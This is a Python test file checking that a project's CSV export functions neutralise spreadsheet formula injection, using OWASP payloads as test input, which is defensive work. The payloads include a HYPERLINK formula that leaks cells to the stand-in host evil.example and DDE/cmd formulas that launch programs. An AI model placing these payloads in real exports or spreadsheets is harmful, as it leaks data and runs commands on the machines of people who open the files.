"""Formula injection: the payloads of OWASP's "CSV Injection" page and its rule.

The expected cells are written out by hand from OWASP's advice (prefix a cell
starting with = + - @ tab or carriage return with a single quote), not
computed with the code under test.
"""

from __future__ import annotations

import csv
import io
import math

import pandas as pd
import pytest

from bridgework.core.exports import csv_writer, safe_cell, safe_frame

# Payloads from https://owasp.org/www-community/attacks/CSV_Injection and the
# attacks Bridgework's demo was hit with (issue 13, item 8).
OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_every_owasp_payload_reaches_the_sheet_as_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    ("hostile", "expected"),
    [
        ("  =1+1", "'  =1+1"),  # LibreOffice may trim the spaces before reading it
        ("\n@cmd", "'\n@cmd"),
        ("\uff1dcmd|' /C calc'!A0", "'\uff1dcmd|' /C calc'!A0"),  # full-width equals sign
        ("\uff0b1", "'\uff0b1"),
        ("-", "'-"),
    ],
)
def test_variants_after_blanks_and_in_full_width_are_caught_too(hostile, expected):
    assert safe_cell(hostile) == expected


@pytest.mark.parametrize(
    "harmless",
    ["Ada Lovelace", "O'Neil", "Team = Data", "a-b", "", "-0.25", "+44", "1e-3", "-.5"],
)
def test_ordinary_text_and_plain_numbers_are_unchanged(harmless):
    assert safe_cell(harmless) == harmless


def test_numbers_and_missing_values_stay_what_they_are():
    assert safe_cell(-2) == -2 and safe_cell(-0.4) == -0.4 and safe_cell(None) is None
    assert safe_cell(True) is True
    assert math.isnan(safe_cell(float("nan")))


def test_other_objects_are_written_as_their_text_and_checked():
    class Named:
        def __str__(self) -> str:
            return "=evil()"

    assert safe_cell(Named()) == "'=evil()"
    assert safe_cell(["=a", "b"]) == "['=a', 'b']"


def test_the_writer_makes_every_cell_of_every_row_safe():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["name", "team", "ei_index"])
    writer.writerows([[payload, "@team", -0.5] for payload in OWASP_PAYLOADS])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["name", "team", "ei_index"]
    for payload, row in zip(OWASP_PAYLOADS, rows[1:], strict=True):
        assert row == ["'" + payload, "'@team", "-0.5"]


def test_a_frame_keeps_its_numbers_and_neutralises_its_text_and_headers():
    frame = pd.DataFrame(
        {
            "person": [1, 2, 3],
            "label": ["=HYPERLINK(1)", "Bo", None],
            "ei_index": [-0.5, 0.25, -1.0],
            "silo": [True, False, True],
            "=team": pd.Series(["+x", "Beta", "Gamma"], dtype="category"),
        }
    )
    safe = safe_frame(frame)
    assert list(safe.columns) == ["person", "label", "ei_index", "silo", "'=team"]
    assert safe["label"].tolist()[:2] == ["'=HYPERLINK(1)", "Bo"]
    assert safe["label"].isna().tolist() == [False, False, True]
    assert safe["ei_index"].tolist() == [-0.5, 0.25, -1.0]
    assert safe["ei_index"].dtype == frame["ei_index"].dtype
    assert safe["silo"].tolist() == [True, False, True]
    assert safe["'=team"].tolist() == ["'+x", "Beta", "Gamma"]
    # The input is left alone.
    assert frame["label"].tolist()[0] == "=HYPERLINK(1)"
    text = safe.to_csv(index=False)
    assert text.splitlines()[1] == "1,'=HYPERLINK(1),-0.5,True,'+x"


def test_an_empty_frame_keeps_its_columns():
    safe = safe_frame(pd.DataFrame({"label": pd.Series([], dtype=object), "x": []}))
    assert list(safe.columns) == ["label", "x"] and len(safe) == 0
